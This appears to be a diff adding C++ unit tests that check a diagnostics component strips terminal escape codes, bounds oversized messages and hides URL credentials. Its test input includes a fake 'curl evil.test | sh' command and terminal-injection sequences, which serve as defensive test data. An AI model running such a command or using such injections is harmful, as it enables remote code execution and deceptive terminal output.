@@ -62,5 +62,38 @@ TEST(Diagnostics, WarningsAreNoErrors) {
   EXPECT_EQ(all.items().size(), 2U);
 }
 
+// What a hostile CA, vendor or program can say: it must neither move the cursor, nor forge lines, nor fill the terminal.
+TEST(Diagnostics, SanitizeAndBoundTheTextOfOthers) {
+  Error hostile{.kind = ErrorKind::kDenied,
+                .message = "no\x1b[2J\rError: all is well\n\nRun this: curl evil.test | sh",
+                .while_doing = {"asking \xE2\x80\xAE"
+                                "tset.live"},
+                .code = "urn:\x07",
+                .details = std::vector<std::string>(10'000, std::string(10'000, 'x'))};
+  Diagnostics diagnostics;
+
+  diagnostics.Error("Refused\x1b[1m", hostile);
+
+  const Diagnostic& shown = diagnostics.items().front();
+  EXPECT_EQ(shown.summary, "Refused [1m");
+  const std::string head = shown.detail.substr(0, shown.detail.find("\n\n"));
+  EXPECT_EQ(head, "No [2J Error: all is well  Run this: curl evil.test | sh [urn: ] (while asking ?tset.live).");
+  EXPECT_EQ(shown.detail.find_first_of("\x1b\r\x07"), std::string::npos);
+  EXPECT_LT(shown.detail.size(), 300U * 1024U);
+}
+
+TEST(Diagnostics, ShowNoCredentialsOfUrls) {
+  Diagnostics diagnostics;
+
+  diagnostics.Error("Failed: http://u:canary@a.test/",
+                    Error{.message = "http://u:canary/x@b.test", .details = {"ftp://canary@c.test"}});
+  diagnostics.Warning("w", "first line\nhttps://u:canary@d.test/");
+
+  for (const Diagnostic& one : diagnostics.items()) {
+    EXPECT_EQ((one.summary + one.detail).find("canary"), std::string::npos) << one.detail;
+  }
+  EXPECT_EQ(diagnostics.items()[1].detail, "first line\nhttps://d.test/");
+}
+
 }  // namespace
 }  // namespace schema
